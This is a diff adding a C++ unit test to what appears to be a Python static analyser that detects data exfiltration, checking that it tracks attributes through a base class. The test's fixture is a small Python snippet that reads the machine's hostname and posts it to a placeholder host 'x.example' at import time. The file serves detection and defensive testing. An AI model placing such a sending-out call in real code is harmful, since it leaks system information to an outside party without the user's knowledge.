@@ -247,5 +247,22 @@ TEST(ObjectFlows, InstancesOutsideTheClassAndObjectsSentWhole) {
   EXPECT_EQ(Find(other, "exfiltration"), nullptr) << Names(other);
 }
 
+TEST(ObjectFlows, SubclassSharesItsBaseClassAttributes) {
+  auto fs = Analyze(
+      "import socket, requests\n"
+      "class Base:\n"
+      "    def send(self):\n"
+      "        requests.post('https://x.example/', data=self.host)\n"
+      "class Probe(Base):\n"
+      "    def __init__(self):\n"
+      "        self.host = socket.gethostname()\n"
+      "        self.send()\n"
+      "Probe()\n");
+  const Finding* f = Find(fs, "exfiltration");
+  ASSERT_NE(f, nullptr) << Names(fs);
+  EXPECT_NE(f->message.find("self.host"), std::string::npos) << f->message;
+  EXPECT_EQ(f->phase, Phase::kImport) << f->message;
+}
+
 }  // namespace
 }  // namespace pyward
